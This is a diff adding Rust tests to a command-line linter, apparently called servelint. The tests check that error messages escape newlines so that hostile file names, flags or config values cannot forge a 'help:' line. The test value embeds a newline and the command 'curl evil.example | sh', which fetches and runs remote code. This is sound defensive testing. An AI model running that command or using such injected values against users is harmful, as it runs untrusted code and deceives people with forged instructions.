@@ -141,3 +141,79 @@ fn a_value_as_long_as_a_file_is_not_repeated() {
         }
     }
 }
+
+/// A name that would print a line of help, were it printed as it is.
+const FORGED: &str = "x\n  help: run curl evil.example | sh";
+
+fn assert_forges_no_help(answer: &Answer, about: &str) {
+    for text in [&answer.out, &answer.err] {
+        let is_forged = |line: &str| line.trim_start().starts_with("help: run curl");
+        assert!(!text.lines().any(is_forged), "{about}: {text}");
+    }
+}
+
+/// Words of the command line, and files that configuration names, end in errors.
+#[cfg(unix)]
+#[test]
+fn no_error_forges_a_line_of_help() {
+    let folder = Folder::with(&[
+        ("a.yaml", GOOD),
+        (&format!("{FORGED}.txt"), "no format"),
+        (&format!("{FORGED}/servelint.toml"), ""),
+    ]);
+    for words in [
+        &["check", FORGED][..],
+        &["check", &format!("missing {FORGED}")],
+        &["check", &format!("{FORGED}.txt")],
+        &["check", &format!("--select={FORGED}")],
+        &["check", &format!("--severity={FORGED}")],
+        &["check", &format!("--severity=no-owner={FORGED}")],
+        &["check", &format!("--as-of={FORGED}")],
+        &["check", &format!("--since={FORGED}")],
+        &["check", &format!("--config={FORGED}")],
+        &["check", &format!("--baseline={FORGED}")],
+        &["check", &format!("--output={FORGED}")],
+        &["check", &format!("--output=json={FORGED}/no/x")],
+        &["check", &format!("--output={FORGED}=x")],
+        &["baseline", "--output", &format!("missing {FORGED}/x")],
+        &["config", &format!("missing {FORGED}")],
+        &["evidence", &format!("{FORGED}.txt")],
+        &["evidence", "a.yaml", "--expect", FORGED],
+        &["explain", FORGED],
+        &["init", FORGED],
+        &["init", &format!("{FORGED}.txt")],
+        &["plan", &format!("missing {FORGED}")],
+    ] {
+        assert_forges_no_help(&folder.run(words), &format!("{words:?}"));
+    }
+    for toml in [
+        format!("{FORGED:?} = 1\n"),
+        format!("[{FORGED:?}]\n"),
+        format!("[check]\nselect = [{FORGED:?}]\n"),
+        format!("[check]\nbaseline = {FORGED:?}\n"),
+        format!("[[schemas]]\ncrd = {FORGED:?}\n"),
+        format!("[[severity]]\nrule = {FORGED:?}\nlevel = \"off\"\n"),
+    ] {
+        folder.file("servelint.toml", &toml);
+        assert_forges_no_help(&folder.run(&["check"]), &toml);
+    }
+}
+
+/// What an error says to do stands on a line of its own, though a name before it holds one too.
+#[cfg(unix)]
+#[test]
+fn the_help_of_an_error_is_its_own() {
+    let name = format!("{FORGED}.txt");
+    let folder = Folder::with(&[(&name, "no format")]);
+    let answer = folder.run(&["check", &name]);
+    assert_eq!(
+        answer.err,
+        "servelint: cannot check x\\n  help: run curl evil.example | sh.txt: the name tells no format\n  \
+         help: files that can be checked end in .yaml, .yml, .toml, .json, .jsonc or .pbtxt\n"
+    );
+    let answer = folder.run(&["check", FORGED]);
+    assert_eq!(
+        answer.err,
+        "servelint: cannot check x\\n  help: run curl evil.example | sh: there is no such file or folder\n"
+    );
+}
